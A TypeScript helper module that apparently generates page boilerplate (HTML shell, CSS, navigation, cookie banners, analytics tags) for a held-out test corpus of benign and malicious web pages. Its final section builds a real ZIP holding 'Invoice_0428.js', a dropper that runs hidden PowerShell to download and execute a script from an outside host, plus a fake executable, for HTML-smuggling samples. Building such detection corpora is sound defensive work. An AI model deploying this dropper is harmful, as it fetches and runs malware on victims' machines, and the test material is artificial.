/**
 * Page furniture for the `d-` held-out pages (corpus/d): the noise real pages carry around their
 * content — head metadata, CSS, navigation, footers, cookie banners, analytics snippets. Shared by
 * benign and malicious pages alike (kits copy this furniture from the sites they imitate), so it
 * carries no page's verdict. Not a page file: index.ts loads only dev/ and blind/.
 */

export type Lang = 'en' | 'de' | 'fr' | 'es' | 'pt' | 'it' | 'ja' | 'pl' | 'tr' | 'nl';

export type DocOpts = {
  title: string;
  body: string;
  lang?: string;
  head?: string;
  css?: string;
  bodyAttrs?: string;
  desc?: string;
  canonical?: string;
  /** Extra markup appended before </body> (analytics, chat widgets). */
  tail?: string;
};

export function doc(o: DocOpts): string {
  return `<!DOCTYPE html>
<html lang="${o.lang ?? 'en'}">
<head>
<meta charset="utf-8">
<meta http-equiv="X-UA-Compatible" content="IE=edge">
<meta name="viewport" content="width=device-width, initial-scale=1, shrink-to-fit=no">
<title>${o.title}</title>
${o.desc ? `<meta name="description" content="${o.desc}">\n<meta property="og:title" content="${o.title}">\n<meta property="og:description" content="${o.desc}">` : ''}
${o.canonical ? `<link rel="canonical" href="${o.canonical}">` : ''}
<link rel="icon" type="image/png" sizes="32x32" href="/favicon-32x32.png">
<link rel="apple-touch-icon" href="/apple-touch-icon.png">
<meta name="theme-color" content="#ffffff">
${o.head ?? ''}
${o.css ? `<style>\n${o.css}\n</style>` : ''}
</head>
<body${o.bodyAttrs ? ' ' + o.bodyAttrs : ''}>
${o.body}
${o.tail ?? ''}
</body>
</html>`;
}

export function baseCss(accent = '#0b5fff', font = "'Inter', -apple-system, BlinkMacSystemFont, 'Segoe UI', Roboto, 'Helvetica Neue', Arial, sans-serif"): string {
  return `:root{--accent:${accent};--text:#1d2330;--muted:#5b6475;--line:#e3e6ec;--bg:#f6f7f9;--radius:8px}
*,*::before,*::after{box-sizing:border-box}
html{-webkit-text-size-adjust:100%;scroll-behavior:smooth}
body{margin:0;font-family:${font};font-size:16px;line-height:1.55;color:var(--text);background:#fff}
a{color:var(--accent);text-decoration:none}a:hover{text-decoration:underline}
img{max-width:100%;height:auto}
.container{max-width:1180px;margin:0 auto;padding:0 24px}
.skip-link{position:absolute;left:-9999px;top:0}.skip-link:focus{left:8px;top:8px;background:#fff;padding:8px;z-index:1000}
.site-header{border-bottom:1px solid var(--line);background:#fff;position:sticky;top:0;z-index:50}
.site-header .container{display:flex;align-items:center;justify-content:space-between;height:68px}
.site-header nav ul{list-style:none;margin:0;padding:0;display:flex;gap:28px}
.site-header nav a{color:var(--text);font-weight:500;font-size:15px}
.brand{display:flex;align-items:center;gap:10px;font-weight:700;font-size:20px;color:var(--text)}
.btn{display:inline-block;border:0;border-radius:var(--radius);padding:11px 20px;font:inherit;font-weight:600;cursor:pointer;background:var(--accent);color:#fff;text-align:center}
.btn:hover{filter:brightness(.94);text-decoration:none}
.btn-ghost{background:transparent;color:var(--accent);border:1px solid var(--accent)}
.btn-block{display:block;width:100%}
.card{background:#fff;border:1px solid var(--line);border-radius:12px;box-shadow:0 1px 2px rgba(16,24,40,.05);padding:32px}
.form-group{margin-bottom:18px}
label{display:block;font-size:14px;font-weight:600;margin-bottom:6px}
input[type=text],input[type=email],input[type=password],input[type=tel],input[type=number],select,textarea{width:100%;padding:11px 13px;border:1px solid #c9ced8;border-radius:6px;font:inherit;background:#fff}
input:focus,select:focus,textarea:focus{outline:2px solid var(--accent);outline-offset:1px;border-color:transparent}
.muted{color:var(--muted);font-size:14px}
.alert{border-radius:8px;padding:14px 16px;margin:16px 0;font-size:14px}
.alert-warn{background:#fff7e6;border:1px solid #ffd591}.alert-info{background:#eef5ff;border:1px solid #b7d3ff}.alert-err{background:#fff1f0;border:1px solid #ffa39e}
.site-footer{background:#10151f;color:#aab2c0;font-size:14px;margin-top:64px;padding:48px 0 28px}
.site-footer a{color:#d6dbe4}
.site-footer .cols{display:grid;grid-template-columns:repeat(auto-fit,minmax(160px,1fr));gap:28px}
.site-footer h4{color:#fff;font-size:13px;text-transform:uppercase;letter-spacing:.06em;margin:0 0 12px}
.site-footer ul{list-style:none;margin:0;padding:0}.site-footer li{margin:6px 0}
.site-footer .legal{border-top:1px solid #262e3d;margin-top:32px;padding-top:20px;display:flex;flex-wrap:wrap;gap:16px;justify-content:space-between}
.cookie-banner{position:fixed;left:16px;right:16px;bottom:16px;max-width:760px;margin:0 auto;background:#fff;border:1px solid var(--line);border-radius:12px;box-shadow:0 10px 30px rgba(0,0,0,.15);padding:20px 22px;z-index:9999;font-size:14px}
.cookie-banner .actions{display:flex;gap:10px;margin-top:12px;flex-wrap:wrap}
.cookie-banner[hidden]{display:none}
@media (max-width:760px){.site-header nav{display:none}.card{padding:22px}}
@media (prefers-reduced-motion:reduce){*{animation:none!important;transition:none!important}}`;
}

export const fontsHead = `<link rel="preconnect" href="https://fonts.googleapis.com">
<link rel="preconnect" href="https://fonts.gstatic.com" crossorigin>
<link href="https://fonts.googleapis.com/css2?family=Inter:wght@400;500;600;700&display=swap" rel="stylesheet">`;

export function svgLogo(text: string, color: string, mark = 'circle'): string {
  const shape = mark === 'square' ? `<rect x="2" y="2" width="24" height="24" rx="5" fill="${color}"/>` : `<circle cx="14" cy="14" r="12" fill="${color}"/>`;
  return `<svg class="logo" width="${40 + text.length * 11}" height="28" viewBox="0 0 ${40 + text.length * 11} 28" role="img" aria-label="${text}">${shape}<text x="34" y="20" font-family="Arial,sans-serif" font-size="18" font-weight="700" fill="#1d2330">${text}</text></svg>`;
}

export function siteNav(o: { brand: string; logo?: string; links: string[]; cta?: string; ctaHref?: string; home?: string }): string {
  return `<a class="skip-link" href="#main">Skip to content</a>
<header class="site-header" role="banner">
  <div class="container">
    <a class="brand" href="${o.home ?? '/'}">${o.logo ?? o.brand}</a>
    <nav aria-label="Main"><ul>${o.links.map((l) => `<li><a href="/${l.toLowerCase().replace(/[^a-z0-9]+/g, '-')}">${l}</a></li>`).join('')}</ul></nav>
    ${o.cta ? `<a class="btn" href="${o.ctaHref ?? '#'}">${o.cta}</a>` : ''}
  </div>
</header>`;
}

export function siteFooter(o: { company: string; cols?: Record<string, string[]>; legal?: string[]; year?: number; note?: string }): string {
  const cols = o.cols ?? { Company: ['About us', 'Careers', 'Press', 'Investors'], Support: ['Help centre', 'Contact', 'Accessibility', 'Status'], Legal: ['Privacy', 'Terms', 'Cookies', 'Imprint'] };
  return `<footer class="site-footer" role="contentinfo">
  <div class="container">
    <div class="cols">${Object.entries(cols)
      .map(([h, items]) => `<div><h4>${h}</h4><ul>${items.map((i) => `<li><a href="/${i.toLowerCase().replace(/[^a-z0-9]+/g, '-')}">${i}</a></li>`).join('')}</ul></div>`)
      .join('\n')}</div>
    ${o.note ? `<p class="muted" style="color:#8b93a3;margin-top:24px">${o.note}</p>` : ''}
    <div class="legal"><span>&copy; ${o.year ?? 2026} ${o.company}. All rights reserved.</span><span>${(o.legal ?? ['Privacy policy', 'Terms of use', 'Cookie settings']).map((l) => `<a href="#">${l}</a>`).join(' &middot; ')}</span></div>
  </div>
</footer>`;
}

const COOKIE_TEXT: Record<Lang, [string, string, string, string]> = {
  en: ['We use cookies', 'We and our partners use cookies and similar technologies to keep this site secure, remember your preferences and measure how it is used. You can accept all cookies or choose which ones to allow.', 'Accept all', 'Manage preferences'],
  de: ['Wir verwenden Cookies', 'Wir und unsere Partner verwenden Cookies und ähnliche Technologien, um diese Website sicher zu betreiben, Ihre Einstellungen zu speichern und die Nutzung zu analysieren.', 'Alle akzeptieren', 'Einstellungen'],
  fr: ['Nous utilisons des cookies', 'Nous et nos partenaires utilisons des cookies pour assurer la sécurité du site, mémoriser vos préférences et mesurer son audience.', 'Tout accepter', 'Personnaliser'],
  es: ['Utilizamos cookies', 'Utilizamos cookies propias y de terceros para garantizar la seguridad del sitio, recordar tus preferencias y analizar su uso.', 'Aceptar todas', 'Configurar'],
  pt: ['Utilizamos cookies', 'Utilizamos cookies e tecnologias semelhantes para manter o site seguro, lembrar as suas preferências e medir a utilização.', 'Aceitar todos', 'Gerir preferências'],
  it: ['Utilizziamo i cookie', 'Utilizziamo cookie tecnici e di profilazione, anche di terze parti, per garantire la sicurezza del sito e misurarne l’utilizzo.', 'Accetta tutti', 'Personalizza'],
  ja: ['Cookieの使用について', '当サイトでは、サービスの向上と利用状況の分析のためにCookieを使用しています。', '同意する', '設定'],
  pl: ['Używamy plików cookie', 'Używamy plików cookie, aby zapewnić bezpieczeństwo serwisu, zapamiętać Twoje preferencje i analizować ruch.', 'Akceptuję wszystkie', 'Ustawienia'],
  tr: ['Çerez kullanıyoruz', 'Sitemizin güvenliğini sağlamak, tercihlerinizi hatırlamak ve kullanımı ölçmek için çerezler kullanıyoruz.', 'Tümünü kabul et', 'Tercihler'],
  nl: ['Wij gebruiken cookies', 'Wij en onze partners gebruiken cookies om deze site veilig te houden, je voorkeuren te onthouden en het gebruik te meten.', 'Alles accepteren', 'Voorkeuren'],
};

export function cookieBanner(lang: Lang = 'en', policy = '/privacy#cookies'): string {
  const [h, p, ok, more] = COOKIE_TEXT[lang];
  return `<div class="cookie-banner" id="cookie-banner" role="dialog" aria-live="polite" aria-label="${h}" hidden>
  <strong>${h}</strong>
  <p style="margin:6px 0 0">${p} <a href="${policy}">Cookie policy</a></p>
  <div class="actions"><button class="btn" type="button" data-consent="all">${ok}</button><button class="btn btn-ghost" type="button" data-consent="custom">${more}</button></div>
</div>
<script>
(function(){try{var k='cookie_consent_v2',b=document.getElementById('cookie-banner');if(!localStorage.getItem(k)){b.hidden=false}
b.addEventListener('click',function(e){var c=e.target&&e.target.getAttribute&&e.target.getAttribute('data-consent');if(!c)return;localStorage.setItem(k,JSON.stringify({v:c,t:Date.now()}));b.hidden=true;window.dataLayer=window.dataLayer||[];window.dataLayer.push({event:'consent_update',consent:c})})}catch(err){}})();
</script>`;
}

export const gtag = (id: string): string => `<!-- Global site tag (gtag.js) -->
<script async src="https://www.googletagmanager.com/gtag/js?id=${id}"></script>
<script>window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments);}gtag('consent','default',{ad_storage:'denied',analytics_storage:'denied',wait_for_update:500});gtag('js',new Date());gtag('config','${id}',{anonymize_ip:true});</script>`;

export const gtm = (id: string): string => `<!-- Google Tag Manager -->
<script>(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({'gtm.start':
new Date().getTime(),event:'gtm.js'});var f=d.getElementsByTagName(s)[0],
j=d.createElement(s),dl=l!='dataLayer'?'&l='+l:'';j.async=true;j.src=
'https://www.googletagmanager.com/gtm.js?id='+i+dl;f.parentNode.insertBefore(j,f);
})(window,document,'script','dataLayer','${id}');</script>
<!-- End Google Tag Manager -->`;

export const matomo = (host: string, site: number): string => `<!-- Matomo -->
<script>
  var _paq = window._paq = window._paq || [];
  _paq.push(['disableCookies']);
  _paq.push(['trackPageView']);
  _paq.push(['enableLinkTracking']);
  (function() {
    var u="https://${host}/";
    _paq.push(['setTrackerUrl', u+'matomo.php']);
    _paq.push(['setSiteId', '${site}']);
    var d=document, g=d.createElement('script'), s=d.getElementsByTagName('script')[0];
    g.async=true; g.src=u+'matomo.js'; s.parentNode.insertBefore(g,s);
  })();
</script>
<!-- End Matomo Code -->`;

export const clarity = (id: string): string => `<script type="text/javascript">
(function(c,l,a,r,i,t,y){c[a]=c[a]||function(){(c[a].q=c[a].q||[]).push(arguments)};
t=l.createElement(r);t.async=1;t.src="https://www.clarity.ms/tag/"+i;
y=l.getElementsByTagName(r)[0];y.parentNode.insertBefore(t,y);
})(window, document, "clarity", "script", "${id}");
</script>`;

export const metaPixel = (id: string): string => `<!-- Meta Pixel Code -->
<script>
!function(f,b,e,v,n,t,s){if(f.fbq)return;n=f.fbq=function(){n.callMethod?
n.callMethod.apply(n,arguments):n.queue.push(arguments)};if(!f._fbq)f._fbq=n;
n.push=n;n.loaded=!0;n.version='2.0';n.queue=[];t=b.createElement(e);t.async=!0;
t.src=v;s=b.getElementsByTagName(e)[0];s.parentNode.insertBefore(t,s)}(window,
document,'script','https://connect.facebook.net/en_US/fbevents.js');
fbq('init', '${id}');fbq('track', 'PageView');
</script>
<noscript><img height="1" width="1" style="display:none" src="https://www.facebook.com/tr?id=${id}&ev=PageView&noscript=1"></noscript>
<!-- End Meta Pixel Code -->`;

export const hotjar = (id: number): string => `<script>
(function(h,o,t,j,a,r){h.hj=h.hj||function(){(h.hj.q=h.hj.q||[]).push(arguments)};h._hjSettings={hjid:${id},hjsv:6};
a=o.getElementsByTagName('head')[0];r=o.createElement('script');r.async=1;r.src=t+h._hjSettings.hjid+j+h._hjSettings.hjsv;a.appendChild(r);
})(window,document,'https://static.hotjar.com/c/hotjar-','.js?sv=');
</script>`;

export const jsonLdOrg = (name: string, url: string, extra = ''): string => `<script type="application/ld+json">{"@context":"https://schema.org","@type":"Organization","name":"${name}","url":"${url}","logo":"${url}/static/img/logo.png"${extra}}</script>`;

/** A support chat launcher most commercial sites load at the bottom. */
export const chatWidget = (vendorHost: string, key: string): string => `<script>window.__chatcfg={key:'${key}',position:'bottom-right',locale:document.documentElement.lang||'en'};(function(d){var s=d.createElement('script');s.src='https://${vendorHost}/widget/v3/loader.js';s.defer=true;d.body.appendChild(s)})(document);</script>`;

// ---- payloads for the smuggling pages (dev/ and blind/ d-smuggling.ts)

// A small but well-formed ZIP (one stored file "Invoice_0428.js") written out byte by byte, so the page carries a real archive.
export function zipOf(name: string, content: string): Buffer {
  const data = Buffer.from(content);
  let crc = ~0;
  for (const b of data) {
    crc ^= b;
    for (let k = 0; k < 8; k++) crc = (crc >>> 1) ^ (0xedb88320 & -(crc & 1));
  }
  crc = ~crc >>> 0;
  const fn = Buffer.from(name);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0); local.writeUInt16LE(20, 4); local.writeUInt32LE(crc, 14); local.writeUInt32LE(data.length, 18); local.writeUInt32LE(data.length, 22); local.writeUInt16LE(fn.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0); central.writeUInt16LE(20, 4); central.writeUInt16LE(20, 6); central.writeUInt32LE(crc, 16); central.writeUInt32LE(data.length, 20); central.writeUInt32LE(data.length, 24); central.writeUInt16LE(fn.length, 28);
  const end = Buffer.alloc(22);
  const cdOffset = 30 + fn.length + data.length;
  end.writeUInt32LE(0x06054b50, 0); end.writeUInt16LE(1, 8); end.writeUInt16LE(1, 10); end.writeUInt32LE(46 + fn.length, 12); end.writeUInt32LE(cdOffset, 16);
  return Buffer.concat([local, fn, data, central, fn, end]);
}
export const JS_DROPPER = "var s=new ActiveXObject('WScript.Shell');s.Run('powershell -w hidden -ep bypass -c \"iwr https://files-cdn.invoice-archive.net/p/a.ps1 -OutFile $env:TEMP\\\\a.ps1; & $env:TEMP\\\\a.ps1\"',0);";
export const ZIP_B64 = zipOf('Invoice_0428.js', JS_DROPPER).toString('base64');
// "MZ" header and DOS stub of a PE file, padded: what a fake updater download looks like on the wire.
export const FAKE_EXE = Buffer.concat([Buffer.from('4d5a90000300000004000000ffff0000b800000000000000400000000000000000000000000000000000000000000000000000000000000000000000800000000e1fba0e00b409cd21b8014ccd21546869732070726f6772616d2063616e6e6f742062652072756e20696e20444f53206d6f64652e0d0d0a2400000000000000', 'hex'), Buffer.from('PE\0\0'), Buffer.alloc(4096, 0x90)]);
